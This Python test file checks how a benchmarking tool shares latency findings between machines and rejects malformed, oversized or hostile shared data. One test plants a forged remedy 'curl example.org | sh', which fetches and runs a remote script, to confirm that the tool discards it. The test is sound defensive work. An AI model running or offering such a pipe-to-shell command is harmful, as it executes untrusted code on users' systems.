"""What another machine found out: read as it was told, and what follows from it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grandopt.artifacts.fleet.fleet import FleetStore
from grandopt.artifacts.fleet.folder import FolderPlace
from grandopt.artifacts.store import Store
from grandopt.reason import Reason, ReasonCode
from grandopt.workflows.building.request import Variant
from grandopt.workflows.memo.findings import CLOSE, Finding, Findings, share_findings, told_findings

KEY = "f00d"
OUTPACED = Reason(ReasonCode.OUTPACED, "not built: it takes at least 3 µs")
FOUND: dict[Variant, Finding] = {
    ("native/float32", 1): Finding("verified", None, 2.0),
    ("native/float32", 2): Finding("verified", None, 2.4, 0.1),
    ("eager/float32", 1): Finding("verified", None, 60.0, 0.25),
    ("onnxruntime/int8_dynamic", 1): Finding("refused", Reason(ReasonCode.ERROR_TOO_LARGE, "error 3")),
    ("inductor/float32", 1): Finding("not measured", OUTPACED),
    ("torchscript/float32", 1): Finding("verified"),
}


def machine(tmp_path: Path, name: str) -> Store:
    """A machine with a store of its own, and one in common with the others."""
    shared = tmp_path / "shared"
    shared.mkdir(exist_ok=True)
    return Store(tmp_path / name, fleet=FleetStore(FolderPlace(shared), pytest.fail))


def test_what_one_machine_found_out_another_is_told_and_itself_is_not(tmp_path: Path) -> None:
    first = machine(tmp_path, "first")
    assert told_findings(first, KEY) is None
    share_findings(first, KEY, FOUND)
    told = told_findings(machine(tmp_path, "second"), KEY)
    assert told is not None
    assert told.of == FOUND
    assert told_findings(first, KEY) is None, "it goes on with its own trials"
    assert told_findings(machine(tmp_path, "second"), "beef") is None


def test_what_is_not_tried_here_says_where_its_figure_is_from() -> None:
    told = Findings("2026-11-28", FOUND)
    assert told.fastest == (("native/float32", 1), 2.0)
    assert told.close() == [("native/float32", 1), ("native/float32", 2)]
    status, reason = told.told(("eager/float32", 1)) or pytest.fail("nothing is told")
    assert (status, reason.code, reason.remedy) == (
        "not measured",
        ReasonCode.MEASURED_ELSEWHERE,
        "--no-resume",
    )
    assert reason.text == (
        "not measured here: it took 30 times as long as native/float32 on a machine of this kind "
        "on 2026-11-28"
    )
    expected = {
        ("onnxruntime/int8_dynamic", 1): ("refused", ReasonCode.ERROR_TOO_LARGE),
        ("inductor/float32", 1): ("not measured", ReasonCode.OUTPACED),
        ("torchscript/float32", 1): ("not measured", ReasonCode.NOT_MEASURED_IN_TIME),
    }
    for place, (wanted, code) in expected.items():
        status, reason = told.told(place) or pytest.fail("nothing is told")
        assert (status, reason.code) == (wanted, code)
        assert "found on a machine of this kind on 2026-11-28" in reason.text
    assert told.told(("openvino/float32", 1)) is None, "it has to be tried here"
    assert Findings("2026-11-28", {("eager/float32", 1): Finding("failed", OUTPACED)}).close() == []


medians = st.floats(0.1, 1e5)
doubts = st.floats(0.0, 0.99)


@given(st.lists(st.tuples(medians, doubts), min_size=1, max_size=20))
def test_whatever_may_be_the_fastest_is_measured_here(figures: list[tuple[float, float]]) -> None:
    found = {(f"c{n}", 1): Finding("verified", None, us, doubt) for n, (us, doubt) in enumerate(figures)}
    told = Findings("2026-11-28", found)
    close = told.close()
    least = min(us for us, _ in figures)
    for place, item in found.items():
        assert item.latency_us is not None
        assert (place in close) == (item.latency_us * (1 - item.doubt) <= CLOSE * least)
    assert found[close[0]].latency_us == least


NO_FINDINGS: list[Any] = [
    [],
    {},
    {"since": "2026-11-28"},
    {"since": "2026-11-28", "found": [{}]},
    {"since": "<b>today</b>", "found": []},
    *(
        {"since": "2026-11-28", "found": [{**row, **change}]}
        for row in [{"candidate": "a", "threads": 1, "status": "verified", "latency_us": 2.0, "doubt": 0.0}]
        for change in (
            {"status": "chosen"},
            {"latency_us": 0.0},
            {"latency_us": float("inf")},
            {"latency_us": float("nan")},
            {"latency_us": "fast"},
            {"doubt": 1.0},
            {"threads": None},
        )
    ),
]


@pytest.mark.parametrize("content", NO_FINDINGS)
def test_what_is_no_finding_is_none(tmp_path: Path, content: Any) -> None:
    machine(tmp_path, "first").put_note(KEY, json.dumps(content).encode(), shared=True)
    assert told_findings(machine(tmp_path, "second"), KEY) is None


def test_what_is_nested_too_deep_is_none(tmp_path: Path) -> None:
    machine(tmp_path, "first").put_note(KEY, b"[" * 100_000, shared=True)
    assert told_findings(machine(tmp_path, "second"), KEY) is None


def test_nobody_is_given_a_line_to_type_by_another_machine(tmp_path: Path) -> None:
    forged = Reason(ReasonCode.ENGINE_MISSING, "x" * 5000, "curl example.org | sh")
    share_findings(
        machine(tmp_path, "first"), KEY, {**FOUND, ("eager/float32", 2): Finding("failed", forged)}
    )
    told = told_findings(machine(tmp_path, "second"), KEY) or pytest.fail("nothing is told")
    status, reason = told.told(("eager/float32", 2)) or pytest.fail("nothing is told")
    assert (status, reason.code, reason.remedy) == ("failed", ReasonCode.ENGINE_MISSING, "--no-resume")
    assert len(reason.text) < 1100


@given(st.binary())
def test_no_bytes_of_another_machine_raise(tmp_path_factory: pytest.TempPathFactory, body: bytes) -> None:
    folder = tmp_path_factory.mktemp("fleet")
    machine(folder, "first").put_note(KEY, body, shared=True)
    assert told_findings(machine(folder, "second"), KEY) is None
